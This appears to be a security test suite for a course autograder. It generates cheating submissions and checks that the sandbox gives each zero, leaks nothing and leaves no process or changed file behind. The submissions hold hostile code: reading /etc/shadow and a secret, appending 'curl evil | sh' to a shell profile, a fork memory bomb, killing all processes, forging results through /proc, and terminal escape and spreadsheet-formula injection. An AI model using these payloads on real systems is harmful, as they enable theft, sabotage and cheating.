"""A class folder built to cheat, graded as root and as a normal user.

Every cheating student below targets ``ch3_continual/task4_metrics``; its source is
generated here with the absolute paths it attacks (the reference solution, an honest
classmate's file, a canary secret, the teacher's report files and shell profile, a port
on which this test listens). The grader must give each cheat 0 on that task, leak
nothing of what it tried to read into the reports, let nothing outlive it, change no
file, and still give the honest classmate full marks.

The normal-user run needs root to prepare it (a private mount namespace in which the
interpreter under /root is visible, then ``setpriv`` to uid 65534); elsewhere it is skipped
with the reason.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

from grading_support import ROOT, run_grader

TASK = "ch3_continual/task4_metrics"
SOLUTION = ROOT / "solutions" / f"{TASK}.py"
CANARY = "CANARY-7f3a9c-secret-of-the-teacher"
FORMULA_NAMES = ["=HYPERLINK(\"x\",\"y\")", "+1+1", "-2-2", "@SUM(A1)"]

WRONG = '''
def continual_metrics(acc, random_baseline=None):
    return {"average_accuracy": 0.0, "bwt": 0.0, "forgetting": 0.0, "fwt": float("nan")}
'''


def _cheats(paths: dict) -> dict[str, str]:
    """student name -> source of its task file (each only cheats)."""
    p = {k: str(v) for k, v in paths.items()}
    exec_found = "exec(compile(SRC, 'x', 'exec'), globals())\n"
    return {
        "load_solution_via_course_lib": (
            "import course_lib, pathlib\n"
            "SRC = (pathlib.Path(course_lib.__file__).resolve().parents[1] / 'solutions' / "
            f"'{TASK}.py').read_text()\n" + exec_found),
        "load_solution_by_path": f"SRC = open({p['solution']!r}).read()\n" + exec_found,
        "walk_the_file_system": (
            "import os\nSRC = None\n"
            "for root, dirs, files in os.walk('/'):\n"
            "    if root.startswith(('/proc', '/sys', '/usr')):\n        dirs[:] = []\n        continue\n"
            "    if 'task4_metrics.py' in files and 'def continual_metrics' in open(os.path.join(root, 'task4_metrics.py')).read():\n"
            "        SRC = open(os.path.join(root, 'task4_metrics.py')).read()\n        break\n"
            + exec_found),
        "copy_a_classmate": f"SRC = open({p['classmate']!r}).read()\n" + exec_found,
        "import_course_lib": "from course_lib.continual.metrics import continual_metrics\n",
        "leak_secrets": (
            "found = []\n"
            f"for path in ({p['canary']!r}, '/etc/shadow', {p['tests']!r}, {p['classmate']!r}):\n"
            "    try:\n        found.append(open(path).read()[:300])\n    except Exception as exc:\n"
            "        found.append(type(exc).__name__)\n"
            "raise RuntimeError(' | '.join(found))\n"),
        "talk_to_localhost": (
            "import socket\n"
            f"s = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=3)\n"
            "s.sendall(b'POST /feedback HTTP/1.0\\r\\n\\r\\n')\n" + WRONG),
        "daemon_outlives": (
            "import os, time, ctypes\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        ctypes.CDLL(None).prctl(15, b'cheat-daemon', 0, 0, 0)\n"
            f"        for _ in range(600):\n            time.sleep(0.1)\n"
            f"            try:\n                open({p['report']!r}, 'w').write('{{\"forged\": true}}')\n"
            "            except Exception:\n                pass\n"
            "    os._exit(0)\n" + WRONG),
        "fork_memory_bomb": (
            "import os\npids = []\n"
            "for _ in range(6):\n    pid = os.fork()\n    if pid == 0:\n"
            "        try:\n            block = bytearray(1 << 30)\n            block[::4096] = b'x' * len(block[::4096])\n"
            "        finally:\n            os._exit(0)\n    pids.append(pid)\n"
            "for pid in pids:\n    os.waitpid(pid, 0)\n" + WRONG),
        "forge_through_proc": (
            "import os, json\n"
            "line = (json.dumps({'event': 'result', 'name': 'test_hand_worked', 'passed': True, 'points': 99, "
            "'message': ''}) + '\\n').encode()\n"
            "for pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
            "        for fd in range(3, 64):\n            try:\n"
            "                out = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)\n"
            "                os.write(out, line)\n                os.close(out)\n"
            "            except OSError:\n                pass\n" + WRONG),
        "kill_everything": "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n" + WRONG,
        "tamper_with_the_teacher": (
            f"for path, text in (({p['profile']!r}, 'curl evil | sh\\n'), ({p['report']!r}, 'forged'),\n"
            f"                   ({p['sitecustomize']!r}, 'import os\\n'), ({p['tests']!r}, 'def test_x(): pass\\n')):\n"
            "    try:\n        open(path, 'a').write(text)\n    except Exception:\n        pass\n" + WRONG),
        "escape_sequences": (
            "print('\\x1b[2J\\x1b[32mALL TESTS PASSED\\x1b[0m')\n"
            "def continual_metrics(acc, random_baseline=None):\n"
            "    raise ValueError('\\x1b[2J\\x1b[1;32mALL TESTS PASSED, 235/235\\x1b[0m\\u202e')\n"),
    }


class _Listener:
    """A TCP server on loopback that records every connection (there must be none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _digest(paths) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "absent" for p in paths}


def _daemons() -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and Path(f"/proc/{pid}/comm").read_text().strip() == "cheat-daemon":
                out.append(pid)
        except OSError:
            pass
    return out


def _build_class(base: Path, listener: _Listener) -> tuple[Path, dict]:
    os.chmod(base, 0o755)
    klass = base / "class"
    teacher = base / "teacher"
    teacher.mkdir()
    honest = klass / "honest" / f"{TASK}.py"
    honest.parent.mkdir(parents=True)
    honest.write_text(SOLUTION.read_text().replace("def continual_metrics", "# honest work\ndef continual_metrics"))
    paths = {"solution": SOLUTION, "classmate": honest, "canary": teacher / "secret.txt",
             "tests": ROOT / "tests" / "exercises" / "ch3_continual/test_task4_metrics.py",
             "report": teacher / "class.json", "profile": teacher / ".bashrc",
             "sitecustomize": Path(sys.prefix) / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}"
             / "site-packages" / "sitecustomize.py", "port": listener.port}
    paths["canary"].write_text(CANARY)
    paths["profile"].write_text("# the teacher's profile\n")
    for name, source in _cheats(paths).items():
        target = klass / name / f"{TASK}.py"
        target.parent.mkdir(parents=True)
        target.write_text(source)
    (klass / "link_to_solutions").symlink_to(ROOT / "solutions")
    (klass / "link_file" / "ch3_continual").mkdir(parents=True)
    (klass / "link_file" / f"{TASK}.py").symlink_to(SOLUTION)
    (klass / "link_chapter").mkdir()
    (klass / "link_chapter" / "ch3_continual").symlink_to(ROOT / "solutions" / "ch3_continual")
    (klass / "link_to_classmate").symlink_to(klass / "honest")
    for name in FORMULA_NAMES:
        (klass / name / "ch3_continual").mkdir(parents=True)
        (klass / name / f"{TASK}.py").write_text(WRONG)
    for path in [base, *base.rglob("*")]:
        if not path.is_symlink():
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
    os.chmod(paths["canary"], 0o600)  # the teacher's secret: readable by the teacher only
    return klass, paths


def _normal_user_prefix() -> list[str] | None:
    """A command prefix that runs the grader as uid 65534 with the interpreter visible, or None."""
    if os.geteuid() != 0 or not (shutil.which("unshare") and shutil.which("setpriv")):
        return None
    hidden = [p for p in {Path(sys.base_prefix), Path(sys.prefix)} if str(p).startswith("/root/")]
    script = ""
    if hidden:
        script = ("mkdir -p /tmp/.course-pyview && mount --bind /root /tmp/.course-pyview && "
                  "mount -t tmpfs -o mode=755 tmpfs /root && " + " && ".join(
                      f"mkdir -p {p} && mount --bind /tmp/.course-pyview/{p.relative_to('/root')} {p}"
                      for p in sorted({Path('/root') / q.relative_to('/root').parts[0] for q in hidden})) + " && ")
    prefix = ["unshare", "-m", "--propagation", "private", "sh", "-c",
              script + 'exec setpriv --reuid 65534 --regid 65534 --clear-groups "$@"', "sh"]
    needed = [sys.executable, str(ROOT / "tests" / "exercises" / "conftest.py"), str(ROOT / "course_lib" / "__init__.py")]
    probe = subprocess.run([*prefix, "sh", "-c", " && ".join(f"test -r '{p}'" for p in needed)], capture_output=True)
    return prefix if probe.returncode == 0 else None


def _grade(klass: Path, out: Path, tmp: Path, as_user: bool) -> tuple[subprocess.CompletedProcess, dict, str]:
    args = ["--submissions", str(klass), "--task", TASK, "--json", str(out / "class.json"),
            "--csv", str(out / "class.csv"), "--timeout", "90", "--jobs", "2"]
    if not as_user:
        proc, _ = run_grader(args, env={"TMPDIR": str(tmp)})
    else:
        env = dict(os.environ, HF_HUB_OFFLINE="1", HOME=str(out), TMPDIR=str(tmp))
        env.pop("COURSE_IMPL", None)
        proc = subprocess.run([*_normal_user_prefix(), sys.executable, "-m", "course_lib.grading", *args],
                              cwd=ROOT, env=env, capture_output=True, text=True, timeout=1500)
    data = json.loads((out / "class.json").read_text()) if (out / "class.json").is_file() else {}
    return proc, data, (out / "class.csv").read_text() if (out / "class.csv").is_file() else ""


@pytest.fixture(scope="module", params=["root", "normal_user"])
def attack_run(request, tmp_path_factory):
    as_user = request.param == "normal_user"
    if as_user and _normal_user_prefix() is None:
        pytest.skip("needs root to prepare a normal-user run (unshare + setpriv), and the course and its "
                    "interpreter readable by uid 65534")
    if not as_user and os.geteuid() != 0:
        pytest.skip("the root run needs root")
    base = Path(tempfile.mkdtemp(prefix=f"attack-{request.param}-"))  # pytest's own tmp is private to root
    request.addfinalizer(lambda: shutil.rmtree(base, ignore_errors=True))
    listener = _Listener()
    klass, paths = _build_class(base, listener)
    out = base / "teacher" / "out"
    out.mkdir()
    os.chmod(out, 0o777)
    watched = [paths["solution"], paths["classmate"], paths["canary"], paths["tests"], paths["profile"],
               paths["sitecustomize"]]
    before = _digest(watched)
    tmp = base / "grader-tmp"  # the grader's TMPDIR: empty again when it is done
    tmp.mkdir()
    os.chmod(tmp, 0o777)
    try:
        proc, data, csv_text = _grade(klass, out, tmp, as_user)
    finally:
        listener.close()
    return dict(proc=proc, data=data, csv=csv_text, paths=paths, before=before, after=_digest(watched),
                connections=listener.connections, daemons=_daemons(),
                tmp_left=sorted(os.listdir(tmp)), as_user=as_user)


def _scores(run) -> dict[str, int]:
    return {s["student"]: s["score"] for s in run["data"]["submissions"]}


def test_the_grader_completes(attack_run):
    proc = attack_run["proc"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "Sandbox: bubblewrap" in proc.stderr, proc.stderr[-2000:]


def test_every_cheat_scores_zero_and_the_honest_student_full(attack_run):
    scores = _scores(attack_run)
    honest = next(s for s in attack_run["data"]["submissions"] if s["student"] == "honest")
    assert honest["score"] == honest["max_score"] > 0, honest
    cheats = {name: score for name, score in scores.items() if name != "honest"}
    assert cheats and all(score == 0 for score in cheats.values()), {n: s for n, s in cheats.items() if s}


def test_links_are_refused_with_the_reason(attack_run):
    for student in ("link_to_solutions", "link_file", "link_chapter", "link_to_classmate"):
        report = next(s for s in attack_run["data"]["submissions"] if s["student"] == student)
        message = report["tasks"][0]["tests"][0]["message"]
        assert "symbolic link" in message, (student, message)


def test_copying_the_course_implementation_is_named(attack_run):
    report = next(s for s in attack_run["data"]["submissions"] if s["student"] == "import_course_lib")
    assert "not available to graded code" in report["tasks"][0]["tests"][0]["message"]


def test_nothing_read_outside_the_submission_reaches_the_reports(attack_run):
    everything = json.dumps(attack_run["data"]) + attack_run["csv"] + attack_run["proc"].stdout \
        + attack_run["proc"].stderr
    assert CANARY not in everything
    assert "root:" not in everything  # /etc/shadow
    assert "def test_" not in everything and "honest work" not in everything
    leak = next(s for s in attack_run["data"]["submissions"] if s["student"] == "leak_secrets")
    assert "FileNotFoundError" in leak["tasks"][0]["tests"][0]["message"]


def test_no_network_no_survivors_no_changes_nothing_left_behind(attack_run):
    assert attack_run["connections"] == 0
    assert attack_run["daemons"] == [], "a daemon outlived the grader"
    changed = [p for p in attack_run["before"] if attack_run["before"][p] != attack_run["after"][p]]
    assert changed == []
    assert attack_run["tmp_left"] == []
    stale = [g for controller in ("memory", "pids") for g in Path("/sys/fs/cgroup", controller).glob("course-grade-*")
             if not Path("/proc", g.name.split("-")[2]).exists()]  # cgroups of processes that are gone
    assert stale == []


def test_reports_are_safe_to_open(attack_run):
    stdout = attack_run["proc"].stdout + attack_run["proc"].stderr
    assert "\x1b" not in stdout and "\u202e" not in stdout
    rows = list(csv.reader(io.StringIO(attack_run["csv"])))
    assert "\x1b" not in attack_run["csv"]
    names = {row[0] for row in rows[1:]}
    for name in FORMULA_NAMES:
        assert "'" + name in names, (name, sorted(names))
    assert not any(cell and cell[0] in "=+-@" for row in rows[1:] for cell in row if not cell.lstrip("-").isdigit())
